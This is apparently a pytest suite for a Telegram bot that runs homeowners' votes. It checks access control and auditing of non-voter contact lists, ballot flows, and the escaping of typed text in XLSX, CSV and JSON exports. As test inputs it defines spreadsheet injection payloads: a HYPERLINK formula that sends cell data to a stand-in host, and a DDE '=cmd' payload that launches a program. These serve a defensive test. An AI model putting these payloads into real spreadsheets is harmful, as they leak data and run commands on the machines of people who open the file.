"""Votes for the office, through the bot: who gets the names and phones of homes not yet voted
(and that it is audited), files that never carry a formula, messages queued by kind, typed
drafts for /newvote and paper ballots, and the buttons each person's card offers."""

from __future__ import annotations

import csv
import io
import json
import pathlib
import zipfile
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import openpyxl
from sqlmodel import col, select

from jobs.votes import tick
from models import AuditEvent, Ballot, Draft, Household, OutboxMessage, Resident, Role
from services import vote_lifecycle
from views.vote_office import PaperChoice
from views.votes import VoteManage

SHANGHAI = ZoneInfo("Asia/Shanghai")
ROOT = pathlib.Path(__file__).resolve().parents[1]
FORMULA_TITLE = '=HYPERLINK("http://x"&B2,"点我")'
FORMULA_NAMES = ["=1+1", "+SUM(A1:A9)", "@cmd", "-2+3"]
ROSTER_FORMULA = "=cmd|' /C calc'!A0"
NOT_VOTED = "未投票名单"
NAMES_REFUSED = "只有本小区的联络员、物业服务人员和管理员可以查看此名单"


async def _ticked(world) -> dict:
    done = await tick(world.runtime)
    await world.deliver()
    return done


def _document(world, person) -> bytes:
    message = person.last_message
    assert message.kind == "document", message.content
    return world.emulator.files[message.document["file_id"]].data


def _no_formula_in_xlsx(content: bytes) -> int:
    """Every cell of every sheet; returns how many were read."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return len(cells)


def _no_formula_in_csv(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert not [c for row in rows for c in row if c.startswith(("=", "+", "-", "@"))], rows
    return rows


async def _office(world, clock):
    """A compound with an open vote, and everyone who might ask for its lists."""
    await world.seed_roster()
    names = ("周委员", "徐丽", "陈师傅", "刘书记", "社区王干部", "李总监")
    committee, owner, staff, liaison, officer, supervisor = (world.user(n) for n in names)
    await world.join_as(committee, Role.COMMITTEE)
    await world.onboard(owner, "1栋 1单元 101", "owner")
    await world.join_as(staff, Role.STAFF)
    await world.join_as(liaison, Role.LIAISON)
    await world.join_as(officer, Role.OFFICER, "community:幸福社区")
    await world.join_as(supervisor, Role.SUPERVISOR)
    now = clock.now()
    async with world.session() as session:
        await vote_lifecycle.draft(
            session,
            None,
            compound_id=1,
            title="续聘物业服务企业",
            body="",
            notice_at=now,
            opens_at=now + timedelta(days=15),
            closes_at=datetime(2026, 11, 25, 18, 0, tzinfo=SHANGHAI),
            now=now,
        )
    clock.advance(days=15, minutes=1)
    await _ticked(world)
    return committee, owner, staff, liaison, officer, supervisor


async def _resident_id(world, person) -> int:
    async with world.session() as session:
        return (
            await session.exec(
                select(col(Resident.id)).where(col(Resident.telegram_id) == person.id)
            )
        ).one()


async def test_only_liaisons_staff_and_admins_get_the_names_and_phones_and_each_time_is_audited(
    world, clock
):
    committee, owner, staff, liaison, officer, supervisor = await _office(world, clock)
    for person in (officer, supervisor, committee, owner):
        await person.send("/vote")
        await person.press("#1")
        assert NOT_VOTED not in person.last_message.buttons()
        await person.press_data(VoteManage("notvoted", 1).pack())  # a forged button
        assert person.last_message.kind == "text"
        assert NAMES_REFUSED in person.last_text
    for person in (liaison, staff):
        await person.send("/vote")
        await person.press("#1")
        await person.press(NOT_VOTED)
        sheet = openpyxl.load_workbook(io.BytesIO(_document(world, person))).active
        rows = list(sheet.iter_rows(min_row=2, values_only=True))
        assert ("第一网格", "1栋 1单元 102", "高静", "13807784483") in [r[:4] for r in rows]
        assert [c.value for c in sheet[1]] == [
            "网格",
            "房屋",
            "业主（花名册）",
            "电话（花名册）",
            "面积（㎡）",
            "走访日期",
            "走访结果",
            "备注",
        ]
        area = sheet.cell(2, 5)
        assert area.data_type == "n" and area.number_format == "0.00" and area.value > 0
        assert sheet.title == "未投票名单" and rows[0][5:] == (None, None, None)
        assert "58 户尚未投票" in person.last_text
    async with world.session() as session:
        events = (
            await session.exec(select(AuditEvent).where(col(AuditEvent.action) == "people.read"))
        ).all()
    assert [(e.actor_id, e.subject_type, e.subject_id) for e in events] == [
        (await _resident_id(world, liaison), "poll", "1"),
        (await _resident_id(world, staff), "poll", "1"),
    ]

    # At the reminder, the follow-up list goes to the liaison only (who holds the permission).
    clock.set(datetime(2026, 11, 22, 18, 0, tzinfo=SHANGHAI))
    assert (await _ticked(world))["reminders"] == 1
    assert liaison.last_message.kind == "document" and "58 户尚未投票" in liaison.last_text
    for person in (officer, supervisor, committee):
        assert not any(m.kind == "document" for m in person.bot_messages)
        assert not any("尚未投票；附上名单" in t for t in person.texts())
    async with world.session() as session:
        events = (
            await session.exec(select(AuditEvent).where(col(AuditEvent.action) == "people.read"))
        ).all()
    assert len(events) == 3 and events[-1].actor_id is None  # the job's list, audited too


async def test_no_file_of_a_vote_carries_a_formula_from_what_people_typed(world, clock):
    await world.seed_roster()
    committee, owner, staff, liaison = (
        world.user(n) for n in ("周委员", "徐丽", "陈师傅", "刘书记")
    )
    await world.join_as(committee, Role.COMMITTEE)
    await world.onboard(owner, "1栋 1单元 101", "owner")
    await world.join_as(staff, Role.STAFF)
    await world.join_as(liaison, Role.LIAISON)
    async with world.session() as session:
        for home in (await session.exec(select(Household))).all():
            home.owner_name = ROSTER_FORMULA
    await committee.send("/newvote")
    await committee.send(FORMULA_TITLE)
    await committee.send("选出两名委员")
    await committee.press("选举候选人")
    await committee.send("\n".join(FORMULA_NAMES))
    await committee.press("2")
    await committee.press("整个小区")
    await committee.press("使用这些时间")
    assert FORMULA_TITLE in committee.last_text  # shown as typed, escaped for Telegram
    await committee.press("发布")
    await _ticked(world)
    clock.advance(days=16)
    await _ticked(world)
    await owner.send("/vote")
    await owner.press("#1")
    await owner.press("⬜ =1+1")
    await owner.press("⬜ @cmd")
    await owner.press("提交")
    assert "回执码" in owner.last_text

    await staff.send("/vote")
    await staff.press("#1")
    await staff.press("录入纸质选票")
    await staff.send("1栋 1单元 102")
    assert "1. =1+1" in staff.last_text and "4. -2+3" in staff.last_text
    await staff.send("2,9")
    assert "请发送列表中候选人的编号" in staff.last_text
    await staff.send("2，4")
    assert "已录入" in staff.last_text and "+SUM(A1:A9)、-2+3" in staff.last_text

    await liaison.send("/vote")
    await liaison.press("#1")
    await liaison.press(NOT_VOTED)
    assert _no_formula_in_xlsx(_document(world, liaison)) > 4 * 50
    sheet = openpyxl.load_workbook(io.BytesIO(_document(world, liaison))).active
    assert sheet.cell(2, 3).value == ROSTER_FORMULA and sheet.cell(2, 3).data_type == "s"
    clock.set(datetime(2026, 11, 24, 18, 0, tzinfo=SHANGHAI))  # the 24 h reminder's list
    await _ticked(world)
    assert _no_formula_in_xlsx(_document(world, liaison)) > 4 * 50

    clock.set(datetime(2026, 11, 26, 18, 1, tzinfo=SHANGHAI))
    await _ticked(world)
    await committee.send("/vote")
    await committee.press("#1")
    await committee.press("导出表决记录")
    files = {
        m.document["file_name"]: world.emulator.files[m.document["file_id"]].data
        for m in committee.bot_messages[-3:]
    }
    _no_formula_in_xlsx(files["vote-1.xlsx"])
    book = openpyxl.load_workbook(io.BytesIO(files["vote-1.xlsx"]))
    assert book.sheetnames == ["计票结果", "有表决权的业主", "选票", "重复投票房屋", "异议"]
    tally = {row[3].value: row for row in book["计票结果"].iter_rows(min_row=2)}
    assert tally["title"][1].value == FORMULA_TITLE and tally["title"][1].data_type == "s"
    assert tally["opens_at"][1].is_date and tally["opens_at"][1].number_format == "yyyy-mm-dd hh:mm"
    assert tally["area.total"][1].data_type == "n" and tally["area.total"][0].value == (
        "专有部分总面积（㎡）"
    )
    assert tally["area.total"][1].number_format == "0.00"
    eligible = list(book["有表决权的业主"].iter_rows(min_row=2))
    assert eligible[0][2].data_type == "n" and eligible[0][3].value in ("是", "否")
    archive = zipfile.ZipFile(io.BytesIO(files["vote-1-csv.zip"]))
    rows = [
        r for name in archive.namelist() for r in _no_formula_in_csv(archive.read(name).decode())
    ]
    assert ["标题", "'" + FORMULA_TITLE, "", "title"] in rows
    record = json.loads(files["vote-1.json"])
    assert sorted(b["choice"] for b in record["ballots"]) == ["+SUM(A1:A9), -2+3", "=1+1, @cmd"]
    assert {r["figure"]: r["value"] for r in record["tally"]}["title"] == FORMULA_TITLE


async def test_results_and_reminders_are_queued_by_kind_with_the_chart_in_the_readers_language(
    world, clock
):
    _committee, owner, *_ = await _office(world, clock)
    reader = world.user("Tom", language="en")
    await world.onboard(reader, "1栋 1单元 102", "owner")
    clock.set(datetime(2026, 11, 24, 18, 0, tzinfo=SHANGHAI))
    await _ticked(world)
    clock.set(datetime(2026, 11, 25, 18, 1, tzinfo=SHANGHAI))
    await _ticked(world)
    for person, title in ((reader, "Preliminary result of the owners’ vote"), (owner, "初步结果")):
        texts = [m for m in person.bot_messages if title in m.content]
        assert texts and person.last_message.kind == "photo"
        assert person.bot_messages.index(texts[-1]) < len(person.bot_messages) - 1
    async with world.session() as session:
        purposes = {m.purpose for m in (await session.exec(select(OutboxMessage))).all()}
    assert {"poll:1:notice", "poll:1:result", "poll:1:result-chart"} <= purposes
    assert "poll:1:follow-up:24" in purposes  # liaisons' list at the 24 h reminder
    english = [m for m in reader.bot_messages if "result of the owners’ vote" in m.content][-1]
    assert "Quorum not reached" in english.content


def test_no_part_of_votes_queues_messages_itself():
    sources = [
        *(ROOT / "services").glob("vote*.py"),
        *(ROOT / "handlers").glob("vot*.py"),
        ROOT / "jobs" / "votes.py",
    ]
    assert len(sources) > 8
    for path in sources:
        text = path.read_text(encoding="utf-8")
        assert "outbox.enqueue" not in text and "services.outbox" not in text, path
        assert "import outbox" not in text and ", outbox" not in text, path
        assert "require_role" not in text and "_ROLES" not in text, path


async def test_newvote_is_a_typed_draft_and_an_answer_to_another_step_is_stale(world, clock):
    await world.seed_roster()
    committee = world.user("周委员")
    await world.join_as(committee, Role.COMMITTEE)
    await committee.send("/newvote")
    await committee.send("续聘物业服务企业")
    async with world.session() as session:
        draft = (await session.exec(select(Draft))).one()
    assert (draft.flow, draft.step, draft.data["title"]) == ("newvote", "body", "续聘物业服务企业")
    await committee.send("是否续聘现物业服务企业三年")
    kind = committee.last_message.inline_keyboard[0][0]["callback_data"]
    await committee.press("表决事项")
    await committee.press_data(kind)  # the kind again, while the matter is asked
    assert "此按钮已不再有效" in committee.last_text
    await committee.press("一般事项")
    await committee.press("部分楼栋")
    await committee.press("完成")
    assert "请至少选择一栋楼" in committee.last_text
    await committee.press("1栋")  # the list of buildings, above the refusal
    await committee.press("完成")
    await committee.press("使用这些时间")
    assert any("范围内共 20 户" in t for t in committee.texts())  # the edited question
    await committee.press("发布")
    assert any("表决 #1 已发布" in t for t in committee.texts())
    async with world.session() as session:
        assert (await session.exec(select(Draft))).all() == []


async def test_a_paper_ballot_is_a_typed_draft_and_an_old_choice_button_is_stale(world, clock):
    _committee, _owner, staff, *_ = await _office(world, clock)
    await staff.send("/vote")
    await staff.press("#1")
    await staff.press("录入纸质选票")
    await staff.send("9栋 9单元 909")
    assert "没有唯一匹配" in staff.last_text
    await staff.send("1-1-102")
    first = staff.last_message.inline_keyboard[0][0]["callback_data"]
    assert PaperChoice.parse(first).choice == "agree"
    await staff.send("/vote")
    assert "请回答上面的问题" in staff.last_text  # in the middle of the paper ballot
    card = next(m for m in reversed(staff.bot_messages) if "录入纸质选票" in m.buttons())
    await staff.press("录入纸质选票", card.message_id)  # another home instead
    await staff.send("1-1-201")
    await staff.press_data(first, staff.last_message.message_id)  # 102's button, now stale
    assert "此按钮已不再有效" in staff.last_text
    await staff.press("反对")
    assert "1栋 1单元 201 的纸质选票已录入：反对" in staff.last_text
    async with world.session() as session:
        ballots = (await session.exec(select(Ballot))).all()
        assert [(b.channel, b.choice) for b in ballots] == [("paper", ["disagree"])]
        assert (await session.exec(select(Draft))).all() == []


async def test_each_card_offers_what_the_policy_allows(world, clock):
    committee, owner, staff, liaison, officer, supervisor = await _office(world, clock)
    expected_open = {
        owner: {"同意", "反对", "弃权"},
        staff: {NOT_VOTED, "录入纸质选票", "打印纸质选票"},
        liaison: {NOT_VOTED, "投票进度"},
        officer: set(),
        supervisor: set(),
        committee: {"投票进度", "撤回本次表决", "打印纸质选票", "录入纸质选票"},
    }
    for person, buttons in expected_open.items():
        await person.send("/vote")
        await person.press("#1")
        assert set(person.last_message.buttons()) == buttons, person.user.first_name
    await staff.press_data(VoteManage("export", 1).pack())  # forged: staff do not export
    assert "只有业委会委员、管理员和社区干部可以导出表决记录" in staff.last_text
    clock.set(datetime(2026, 11, 25, 18, 1, tzinfo=SHANGHAI))
    await _ticked(world)
    expected_closed = {
        owner: {"提出异议", "已计票回执哈希"},
        staff: {"已计票回执哈希"},
        officer: {"已计票回执哈希", "导出表决记录", "表决结果公告 (PDF)"},
        committee: {"已计票回执哈希", "导出表决记录", "表决结果公告 (PDF)", "异议（0）"},
    }
    for person, buttons in expected_closed.items():
        await person.send("/vote")
        await person.press("#1")
        assert set(person.last_message.buttons()) == buttons, person.user.first_name
    await officer.press("导出表决记录")
    assert officer.last_message.kind == "document"


async def test_titles_are_escaped_and_counts_are_plural_in_english(world, clock):
    await world.seed_roster()
    committee, owner = world.user("Chair", language="en"), world.user("Tom", language="en")
    await world.join_as(committee, Role.COMMITTEE)
    await world.onboard(owner, "1栋 1单元 101", "owner")
    await committee.send("/newvote")
    await committee.send("<b>Lift</b> & stairs")
    await committee.send("Fix the <i>lift</i> & the stairs")
    await committee.press("A resolution: agree / disagree / abstain")
    await committee.press("Ordinary matter (more than 1/2)")
    await committee.press("Only some buildings")
    await committee.press("1栋")
    await committee.press("Done")
    await committee.press("Use these times")
    preview = committee.last_text
    assert "<b>Lift</b> & stairs" in preview and "Fix the <i>lift</i> & the stairs" in preview
    assert "20 homes are in scope." in preview and "1 of their owners uses this bot" in preview
    await committee.press("Publish")
    await _ticked(world)
    assert "<b>Lift</b> & stairs" in owner.last_text
    clock.advance(days=16)
    await _ticked(world)
    await owner.send("/vote")
    await owner.press("#1")
    await owner.press("Agree")
    clock.advance(days=8)
    await _ticked(world)
    result = [m for m in owner.bot_messages if "result of the owners’ vote" in m.content][-1]
    assert "<b>Lift</b> & stairs" in result.content
    await owner.send("/vote")
    await owner.press("#1")
    await owner.press("Counted receipt hashes")
    assert "1 counted ballot." in owner.last_text
